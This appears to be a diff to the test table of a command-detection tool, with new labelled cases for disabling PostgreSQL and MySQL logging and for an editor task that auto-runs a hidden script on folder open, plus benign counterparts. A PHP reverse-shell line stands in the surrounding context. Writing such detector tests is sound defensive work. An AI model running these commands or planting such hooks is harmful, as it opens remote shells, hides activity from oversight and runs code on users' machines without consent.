@@ -1953,6 +1953,21 @@ fn commands_table() {
             "",
         ),
         (
+            "logs_wiped",
+            "psql -c \"ALTER SYSTEM SET log_statement = 'none'\"",
+            "",
+        ),
+        (
+            "logs_wiped",
+            "mysql -e \"SET GLOBAL general_log = 'OFF'\"",
+            "",
+        ),
+        (
+            "editor_task_autorun",
+            "{\"version\": \"2.0.0\", \"tasks\": [{\"label\": \"init\", \"type\": \"shell\", \"command\": \"bash /tmp/.x\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}",
+            "",
+        ),
+        (
             "code_reverse_shell",
             "php -r '$s=fsockopen(\"203.0.113.9\",4444);exec(\"sh <&3 >&3 2>&3\");'",
             "",
@@ -2081,6 +2096,9 @@ EOF",
         "cat /etc/ld.so.preload",
         "cat .git/config",
         "ALTER ROLE app NOSUPERUSER;",
+        "psql -c \"ALTER SYSTEM SET log_statement = 'all'\"",
+        "mysql -e \"SET GLOBAL slow_query_log = 'ON'\"",
+        "{\"label\": \"build\", \"type\": \"shell\", \"command\": \"make\", \"runOptions\": {\"runOn\": \"default\"}}",
         "echo done >> /var/log/messages",
         "./backup.sh >> /var/log/syslog 2>&1",
         "def load_file(path):
